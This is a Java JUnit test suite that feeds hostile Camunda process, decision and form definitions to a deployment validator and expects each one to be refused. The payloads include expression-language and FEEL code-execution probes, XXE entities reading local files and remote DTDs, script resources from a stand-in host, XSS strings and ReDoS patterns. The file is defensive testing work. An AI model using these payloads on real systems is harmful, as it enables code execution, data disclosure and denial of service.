package al.nrm.modelling;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.Charset;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** No way to make a deployed model run code with the engine's rights gets in, whichever door it comes to. */
abstract class AttackCorpus {

    /** What the door answers to a deployment: its findings, each a sentence; none where it lets the deployment in. */
    abstract List<String> findings(Map<String, byte[]> resources);

    /** What stands where the sample says {@code camunda:delegateExpression="${shareFacts}"}. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "camunda:type='shell'",
                "camunda:type='mail'",
                "camunda:type='external' camunda:topic='t'",
                "camunda:class='al.nrm.Evil'",
                "isForCompensation='true' camunda:class='al.nrm.Evil'",
                "camunda:expression=\"${''.getClass()}\"",
                "camunda:delegateExpression='${dataSource}'",
                "camunda:delegateExpression='${deadline}'",
                "camunda:delegateExpression='${runtimeService}'",
                "camunda:delegateExpression='${shareFacts.execute(execution)}'",
                "camunda:delegateExpression='#{shareFacts}'",
                "camunda:delegateExpression='${${shareFacts}}'",
                "camunda:delegateExpression='${county}'",
                "camunda:delegateExpression='al.nrm.Evil'",
                "xmlns:activiti='http://activiti.org/bpmn' activiti:class='al.nrm.Evil'",
                "xmlns:c='http://activiti.org/bpmn' c:expression='${dataSource}'",
                "camunda:delegateExpression='${shareFacts}' camunda:jobPriority='${dataSource}'",
                "camunda:delegateExpression='${shareFacts}' camunda:exclusive='true'",
                "camunda:delegateExpression='${shareFacts}' implementation='##WebService'"
            })
    void noServiceTaskRunsAnythingButAListedBean(String attack) {
        refused(SampleModels.PROCESS.replace("camunda:delegateExpression=\"${shareFacts}\"", attack));
    }

    /** What is put among the extensions of the service task. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "<camunda:executionListener event='start' class='al.nrm.Evil'/>",
                "<camunda:executionListener event='start' delegateExpression='${shareFacts}'/>",
                "<camunda:executionListener event='end'><camunda:script scriptFormat='groovy'>1</camunda:script></camunda:executionListener>",
                "<camunda:taskListener event='create' expression='${1}'/>",
                "<camunda:field name='x'><camunda:expression>${dataSource}</camunda:expression></camunda:field>",
                "<camunda:connector><camunda:connectorId>http-connector</camunda:connectorId></camunda:connector>",
                "<camunda:inputOutput><camunda:inputParameter name='a'><camunda:script scriptFormat='groovy'>1</camunda:script></camunda:inputParameter></camunda:inputOutput>",
                "<camunda:inputOutput><camunda:inputParameter name='a'><camunda:script scriptFormat='groovy' resource='http://h/x'/></camunda:inputParameter></camunda:inputOutput>",
                "<camunda:inputOutput><camunda:inputParameter name='a'><camunda:map><camunda:entry key='${dataSource}'>1</camunda:entry></camunda:map></camunda:inputParameter></camunda:inputOutput>",
                "<camunda:inputOutput><camunda:inputParameter name='a'><camunda:list><camunda:value>${dataSource}</camunda:value></camunda:list></camunda:inputParameter></camunda:inputOutput>",
                "<camunda:inputOutput><camunda:inputParameter name='${dataSource}'>1</camunda:inputParameter></camunda:inputOutput>",
                "<camunda:inputOutput><camunda:outputParameter name='a'>${execution}</camunda:outputParameter></camunda:inputOutput>",
                "<camunda:errorEventDefinition errorRef='e' expression='${dataSource}'/>",
                "<camunda:failedJobRetryTimeCycle>${dataSource}</camunda:failedJobRetryTimeCycle>",
                "<camunda:formData><camunda:formField id='a' type='string' defaultValue='${dataSource}'/></camunda:formData>",
                "<camunda:properties><camunda:property name='sopStep' value='${dataSource}'/></camunda:properties>",
                "<evil:script xmlns:evil='http://evil/'>1</evil:script>"
            })
    void noExtensionCarriesCode(String attack) {
        String place = "<camunda:inputOutput>";
        refused(SampleModels.PROCESS.replaceFirst(place, Matcher.quoteReplacement(attack + place)));
    }

    /** What stands as a condition, an input parameter and a timer's date. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "${''.getClass()}",
                "${''.getClass().forName('java.lang.ProcessBuilder').getName()}",
                "${execution}",
                "${execution.setVariable('a', 1)}",
                "${execution.processBusinessKey}",
                "#{execution.processBusinessKey}",
                "#{county}",
                "${county.bytes}",
                "${county['bytes']}",
                "${county ? 1 : 2}",
                "${county + 1}",
                "${county eq 'tirane' div 1}",
                "${x -> x}",
                "${a = 1}",
                "${a; b}",
                "${${county}}",
                "${county}${dataSource.connection}",
                "${county} ${dataSource.connection}",
                "text ${county}",
                "${'${dataSource}'}",
                "${'\\''.getClass()}",
                "${'a'.'b'}",
                "${\"a\"}",
                "${a and}",
                "${(a}",
                "${a b}",
                "${}",
                "${",
                "${not}",
                "${openEscalation}",
                "${deadline}",
                "${task}",
                "${authenticatedUserId}",
                "${deadline.of(execution, 'P1-06').getClass()}",
                "${deadline.of(execution, county)}",
                "${deadline.of(execution, 'P1-06', '')}",
                "${deadline.before(execution, 'P1-06', county)}",
                "${deadline.before(execution, 'P1-06', 'a.b')}",
                "${deadline.before(execution, 'P1-06', 'county').getTime()}",
                "${deadline.class}",
                "${county\u00a0.bytes}",
                "${\u0430ge}",
                "$<!-- -->{dataSource.connection}",
                "$<![CDATA[{dataSource.connection}]]>",
                "&#36;{dataSource.connection}"
            })
    void noExpressionReachesBeyondVariablesAndTheListedCalls(String attack) {
        String escaped = attack.startsWith("$<") || attack.startsWith("&") ? attack : escape(attack);
        refused("[expression]", SampleModels.PROCESS.replace("${ageGroup != 'adult'}", escaped));
        refused("[expression]", SampleModels.PROCESS.replace("${county}", escaped));
        refused("[expression]", SampleModels.PROCESS.replace("${deadline.every(execution, 'P3-06-wait')}", escaped));
    }

    /** The same sound expression is evil where the engine should not evaluate anything. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "name=\"Help child\"",
                "name=\"Sample\"",
                "name=\"Asked\"",
                "name=\"escalation.opened\"",
                "\"child-protection-unit\"",
                "\"${dueAt}\"",
                "\"sample-help-child\"",
                "\"sample-ask\"",
                "\"stage\"",
                "\"screening\"",
                "\"screeningResult\"",
                "\"team\"",
                "businessKey=\"#{execution.processBusinessKey}\"",
                "source=\"county\"",
                "historyTimeToLive=\"P3650D\""
            })
    void noExpressionStandsWhereItsPlaceDoesNotCallForIt(String place) {
        refused(SampleModels.PROCESS.replace(place, place.replaceFirst("\".*\"", "\"\\${county}\"")));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "What it is for, and its basis.",
                "P1-06. What to do, and its basis.",
                "refused</camunda:inputParameter>"
            })
    void noTextIsAnExpressionBecauseTheEngineEvaluatesATasksDocumentation(String text) {
        refused(SampleModels.PROCESS.replace(text, "${dataSource.connection}" + text));
    }

    /** What is put before the message at the end of the file or before the first element of the process. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "<bpmn:scriptTask id='Task_Evil' name='Evil' scriptFormat='groovy'><bpmn:script>1</bpmn:script></bpmn:scriptTask>",
                "<bpmn:scriptTask id='Task_Evil' name='Evil' scriptFormat='groovy' camunda:resource='http://h/x'/>",
                "<bpmn:sendTask id='Task_Evil' name='Evil' camunda:class='al.nrm.Evil'/>",
                "<bpmn:receiveTask id='Task_Evil' name='Evil'/>",
                "<bpmn:manualTask id='Task_Evil' name='Evil'/>",
                "<bpmn:task id='Task_Evil' name='Evil'/>",
                "<bpmn:complexGateway id='Gateway_Evil'/>",
                "<bpmn:adHocSubProcess id='SubProcess_Evil' name='Evil'/>",
                "<bpmn:transaction id='SubProcess_Evil' name='Evil'/>",
                "<bpmn:startEvent id='StartEvent_Evil' name='Evil' camunda:formKey='embedded:app:evil.html'/>",
                "<bpmn:startEvent id='StartEvent_Evil' name='Evil' camunda:formKey='https://evil/'/>",
                "<bpmn:startEvent id='StartEvent_Evil' name='Evil' camunda:formHandlerClass='al.nrm.Evil'/>",
                "<bpmn:startEvent id='StartEvent_Evil' name='Evil' camunda:initiator='county'/>",
                "<bpmn:startEvent id='StartEvent_Evil' name='Evil'><bpmn:conditionalEventDefinition><bpmn:condition xsi:type='bpmn:tFormalExpression' language='groovy'>1</bpmn:condition></bpmn:conditionalEventDefinition></bpmn:startEvent>",
                "<bpmn:startEvent id='StartEvent_Evil' name='Evil'><bpmn:timerEventDefinition><bpmn:timeCycle>R/PT1S</bpmn:timeCycle></bpmn:timerEventDefinition></bpmn:startEvent>",
                "<bpmn:intermediateThrowEvent id='Event_Evil' name='Evil'><bpmn:signalEventDefinition signalRef='S'/></bpmn:intermediateThrowEvent>",
                "<bpmn:intermediateThrowEvent id='Event_Evil' name='Evil'><bpmn:messageEventDefinition camunda:type='shell'/></bpmn:intermediateThrowEvent>",
                "<bpmn:intermediateThrowEvent id='Event_Evil' name='Evil'><bpmn:messageEventDefinition camunda:class='al.nrm.Evil'/></bpmn:intermediateThrowEvent>",
                "<bpmn:dataObject id='D'/>",
                "<bpmn:callActivity id='Activity_Evil' name='Evil' camunda:caseRef='c'/>",
                "<bpmn:callActivity id='Activity_Evil' name='Evil' calledElement='stage' camunda:variableMappingClass='al.nrm.Evil'/>",
                "<bpmn:callActivity id='Activity_Evil' name='Evil' calledElement='stage' camunda:calledElementTenantId='${dataSource}'/>"
            })
    void noOtherElementStandsInAProcess(String attack) {
        refused(SampleModels.PROCESS.replaceFirst("(?=<bpmn:startEvent)", attack.replace("$", "\\$")));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<camunda:in source=\"narrative\" target=\"county\"/>",
                "<camunda:in source=\"fullName\" target=\"currentShelter\"/>",
                "<camunda:out source=\"narrative\" target=\"shelter\"/>"
            })
    void noCallHandsProtectedDataOnUnderAnOpenName(String attack) {
        refused("[secrecy]", SampleModels.PROCESS.replace("<camunda:in source=\"county\" target=\"county\"/>", attack));
    }

    @ParameterizedTest
    @ValueSource(strings = {"${narrative}", "${narrative == 'x' and county == 'vlore'}", "${not empty fullName}"})
    void noParameterHandsProtectedDataOnUnderAnOpenName(String attack) {
        refused("[secrecy]", SampleModels.PROCESS.replace("${county}", attack));
    }

    @ParameterizedTest
    @ValueSource(strings = {"auditor", "system-admin"})
    void noTaskIsForThoseWhoOnlyLookOn(String group) {
        refused("[candidate-group]", SampleModels.PROCESS.replace("\"child-protection-unit\"", '"' + group + '"'));
    }

    @Test
    void aModelOfMoreElementsThanAnybodyDrawsIsRefusedBeforeItIsJudged() {
        String many = "<bpmn:endEvent id='EndEvent_X' name='End'/>".repeat(8000);
        assertThat(findings(SampleModels.with(
                        "sample.bpmn", SampleModels.PROCESS.replace("</bpmn:process>", many + "</bpmn:process>"))))
                .anySatisfy(finding -> assertThat(finding).contains("holds more than 8000 elements"));
    }

    @Test
    void aProcessOfOursIsNotReplacedByOneThatDoesLess() {
        String hollow = SampleModels.PROCESS.replace("id=\"sample\"", "id=\"referral\"");
        Map<String, byte[]> resources = SampleModels.with("referral.bpmn", hollow);
        resources.remove("sample.bpmn");

        assertThat(findings(resources))
                .contains(
                        "referral.bpmn: [replacement] EndEvent_CaseClosed: is an end of a case that others rely on, and is missing",
                        "referral.bpmn: [replacement] referral: lacks the SOP step P1-01; a step that the law drops goes with its deadlines");
    }

    @Test
    void aProcessOfOursIsNotReplacedUnderTheFileNameOfAnother() {
        String disguised = SampleModels.PROCESS.replace("id=\"sample\"", "id=\"referral\"");

        assertThat(findings(SampleModels.with("sample.bpmn", disguised)))
                .contains("sample.bpmn: [file-name] referral: the file is named after its process");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "camunda:candidateStarterGroups='ra-chair'",
                "camunda:candidateStarterUsers='auditor'",
                "camunda:jobPriority='${dataSource}'",
                "camunda:isStartableInTasklist='false'",
                "camunda:taskPriority='${dataSource}'"
            })
    void noAttributeOfAProcessStartsOrGrantsAnything(String attack) {
        refused(SampleModels.PROCESS.replace("isExecutable=\"true\"", "isExecutable=\"true\" " + attack));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<!DOCTYPE a>",
                "<!DOCTYPE a SYSTEM 'http://evil/a.dtd'>",
                "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/hostname'>]>",
                "<!DOCTYPE a [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;&a;&a;'>]>"
            })
    void noDocumentTypeIsRead(String attack) {
        String doctype = "?>" + attack;
        assertThat(findings(SampleModels.with("sample.bpmn", SampleModels.PROCESS.replace("?>", doctype))))
                .singleElement()
                .asString()
                .startsWith("sample.bpmn: [readable]")
                .contains("DOCTYPE");
        assertThat(findings(SampleModels.with("choice.dmn", SampleModels.DECISION.replace("?>", doctype))))
                .singleElement()
                .asString()
                .startsWith("choice.dmn: [readable]")
                .contains("DOCTYPE");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", " ", "{}", "<a/>", "<bpmn:definitions", "\u0000", "[]", "null"})
    void whatIsNoModelIsRefusedInASentence(String content) {
        for (String name : List.of("sample.bpmn", "choice.dmn", "deadlines.dmn", "sample-ask.form")) {
            assertThat(findings(SampleModels.with(name, content)))
                    .anySatisfy(finding -> assertThat(finding).startsWith(name + ": ["));
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "${county}",
                "${not empty interpreterLanguage}",
                "${ageGroup == 'adult' and not consentAssistance}",
                "${(a == 1 or b &gt;= 2.5) and c != null}",
                "${nrOfCompletedInstances == nrOfInstances}"
            })
    void aPlainConditionStaysAllowed(String condition) {
        assertThat(findings(SampleModels.with(
                        "sample.bpmn", SampleModels.PROCESS.replace("${ageGroup != 'adult'}", condition))))
                .isEmpty();
    }

    /** What stands in a decision's cell. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "${sex}",
                "#{sex}",
                "=sex",
                "sex.getClass()",
                "execution",
                "fullName",
                "narrative",
                "now()",
                "currentUser()",
                "spin(\"x\")",
                "S(\"<x/>\")",
                "get value(sex, \"class\")",
                "function(x) x",
                "(function(x) external {java: {class: \"java.lang.Runtime\"}})(1)",
                "{f: function(x) x}.f(1)",
                "for i in 1..1000000000 return i",
                "every x in 1..99999999 satisfies x",
                "for a in 1..9999 return for b in 1..9999 return a",
                "matches(\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!\", \"(a+)+$\")",
                "1e999999999",
                "((((((((((((((((1))))))))))))))))",
                "java.lang.Runtime",
                "a b c"
            })
    void noCellOfADecisionIsMoreThanAComparisonOfOpenFacts(String attack) {
        refusedDecision(SampleModels.DECISION.replace("<text>\"female\"</text>", text(attack)));
        refusedDecision(SampleModels.DECISION.replace("<text>sex</text>", text(attack)));
        refusedDecision(SampleModels.DECISION.replace("<text>\"different-and-equal\"</text>", text(attack)));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<informationRequirement id='i'><requiredDecision href='#choice'/></informationRequirement>",
                "<informationRequirement id='i'><requiredDecision href='#none'/></informationRequirement>",
                "<informationRequirement id='i'><requiredDecision href='http://evil/x#y'/></informationRequirement>",
                "<knowledgeRequirement id='i'><requiredKnowledge href='#b'/></knowledgeRequirement>",
                "<authorityRequirement id='i'><requiredAuthority href='#b'/></authorityRequirement>"
            })
    void noDecisionRequiresWhatIsNotThere(String attack) {
        assertThat(findings(SampleModels.with(
                        "choice.dmn", SampleModels.DECISION.replace("<decisionTable", attack + "<decisionTable"))))
                .anySatisfy(finding -> assertThat(finding).startsWith("choice.dmn: ["));
    }

    @Test
    void noDecisionOfOursIsReplacedFromAnotherFileNorByOneThatDecidesSomethingElse() {
        String second = "<decision id='screening' name='S' camunda:historyTimeToLive='P3650D'>"
                + "<variable id='v' name='screeningResult'/><literalExpression id='l'><text>\"none\"</text>"
                + "</literalExpression></decision></definitions>";

        assertThat(findings(SampleModels.with("choice.dmn", SampleModels.DECISION.replace("</definitions>", second))))
                .contains("choice.dmn: [file-name] screening: begins with the name of another file than its own");
        assertThat(findings(SampleModels.with(
                        "screening.dmn", SampleModels.DECISION.replace("\"choice\"", "\"screening\""))))
                .contains(
                        "screening.dmn: [replacement] screening: does not decide 'screeningResult', which others rely on");
    }

    /** What a field of a form says of itself. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"label\": \"${x}\"",
                "\"label\": \"{{x}}\"",
                "\"label\": \"=x\"",
                "\"label\": \" \u00a0=x\"",
                "\"label\": [\"=x\"]",
                "\"label\": {\"a\": 1}",
                "\"label\": \"a\\u202eb\"",
                "\"label\": \"![a](http://evil/x.png)\"",
                "\"label\": \"[a](vbscript:x)\"",
                "\"label\": \"[a](java&#115;cript:x)\"",
                "\"label\": \"[a]: //evil\"",
                "\"label\": \"https://evil\"",
                "\"description\": \"<img src=x onerror=alert(1)>\"",
                "\"defaultValue\": \"=x\"",
                "\"defaultValue\": \"<script>\"",
                "\"appearance\": {\"prefixAdorner\": \"=x\"}",
                "\"appearance\": {\"suffixAdorner\": \"<b>\"}",
                "\"properties\": {\"a\": \"${x}\"}",
                "\"layout\": {\"columns\": \"=x\"}",
                "\"searchable\": \"=x\"",
                "\"values\": [{\"label\": \"<b>\", \"value\": \"a\"}]",
                "\"values\": []",
                "\"key\": \"constructor\"",
                "\"key\": \"__proto__\"",
                "\"key\": \"execution\"",
                "\"conditional\": {\"hide\": \"=for i in 1..99999999 return i\"}",
                "\"conditional\": {\"hide\": \"=now()\"}",
                "\"conditional\": {\"hide\": \"=county.bytes\"}",
                "\"conditional\": {\"show\": \"=county\"}",
                "\"validate\": {\"maxLength\": -1}",
                "\"validate\": {\"maxLength\": 200, \"pattern\": \"(a+)+$\"}",
                "\"validate\": {\"maxLength\": 200, \"pattern\": \".*a.*b.*c\"}",
                "\"onclick\": \"alert(1)\""
            })
    void noFieldOfAFormSaysMoreThanPlainText(String attack) {
        String field = attack.startsWith("\"key\"") ? "" : "\"key\": \"sample\", ";
        String limit = attack.startsWith("\"validate\"") ? "" : "\"validate\": {\"maxLength\": 9}, ";
        String evil = "{\"type\": \"textfield\", \"id\": \"Field_Evil\", " + field + limit + attack + "}, ";
        assertThat(findings(SampleModels.with(
                        "sample-help-child.form",
                        SampleModels.FORM.replace("{\"type\": \"text\",", evil + "{\"type\": \"text\","))))
                .isNotEmpty()
                .allSatisfy(finding -> assertThat(finding)
                        .containsPattern("sample-help-child.form: \\[(form|feel)")
                        .doesNotContain("unreadable"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"UTF-16", "UTF-16LE", "UTF-32", "IBM037", "ISO-8859-1"})
    void noFileIsOneModelToOneReaderAndAnotherToTheNext(String encoding) {
        Charset other = Charset.forName(encoding);
        for (Map.Entry<String, String> file : Map.of(
                        "sample.bpmn", SampleModels.PROCESS.replace("UTF-8", encoding),
                        "choice.dmn", SampleModels.DECISION.replace("UTF-8", encoding),
                        "sample-ask.form", "\u00eb" + SampleModels.FORM)
                .entrySet()) {
            Map<String, byte[]> models = SampleModels.deployment();
            models.put(file.getKey(), file.getValue().getBytes(other));
            assertThat(findings(models))
                    .anySatisfy(finding -> assertThat(finding).startsWith(file.getKey() + ": [text]"));
        }
    }

    @Test
    void noFileKeepsTheGateBusy() {
        String place = "<camunda:inputOutput>";
        String deep = "<camunda:a>".repeat(40_000) + "</camunda:a>".repeat(40_000);
        String hide = "\"hide\": \"=" + "(".repeat(3000) + "x" + ")".repeat(3000) + "\"";

        refused("[text]", SampleModels.PROCESS.replaceFirst(place, deep + place));
        refused(
                "[text]",
                SampleModels.PROCESS.replace("<bpmn:process", "<!--" + "x".repeat(1 << 20) + "--><bpmn:process"));
        refused(
                "[text]",
                SampleModels.PROCESS.replace(
                        "<bpmn:definitions", "<?xml-stylesheet href='http://evil/'?><bpmn:definitions"));
        assertThat(findings(SampleModels.with(
                        "sample-help-child.form", SampleModels.FORM.replace("\"hide\": \"=ageGroup = null\"", hide))))
                .anySatisfy(finding -> assertThat(finding).startsWith("sample-help-child.form: ["));
    }

    /** What a model might write over. */
    @ParameterizedTest
    @ValueSource(strings = {"caseNumber", "dueAt", "execution", "task", "authenticatedUserId"})
    void noModelWritesWhatTheHouseWritesAlone(String variable) {
        for (String place : List.of(
                "inputParameter name=\"county\"",
                "camunda:in source=\"county\" target=\"county\"",
                "camunda:out source=\"shelter\" target=\"shelter\"",
                "camunda:resultVariable=\"screeningResult\"",
                "camunda:elementVariable=\"institution\"")) {
            refused(
                    "[variable]",
                    SampleModels.PROCESS.replace(place, place.replaceFirst("\"[^\"]*\"$", "\"" + variable + "\"")));
        }
    }

    private void refusedDecision(String decision) {
        assertThat(findings(SampleModels.with("choice.dmn", decision)))
                .anySatisfy(finding -> assertThat(finding).containsPattern("choice.dmn: \\[(feel|open-facts)] \\w+: "));
    }

    private static String text(String feel) {
        return "<text>" + escape(feel) + "</text>";
    }

    /** Refused by a rule and not for bad XML, which would hide that no rule sees the attack. */
    private void refused(String process) {
        refused("[", process);
    }

    private void refused(String rule, String process) {
        assertThat(process).isNotEqualTo(SampleModels.PROCESS);
        assertThat(findings(SampleModels.with("sample.bpmn", process)))
                .anySatisfy(finding -> assertThat(finding).contains(rule))
                .noneSatisfy(finding -> assertThat(finding).contains("[readable]"));
    }

    private static String escape(String text) {
        return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;");
    }
}
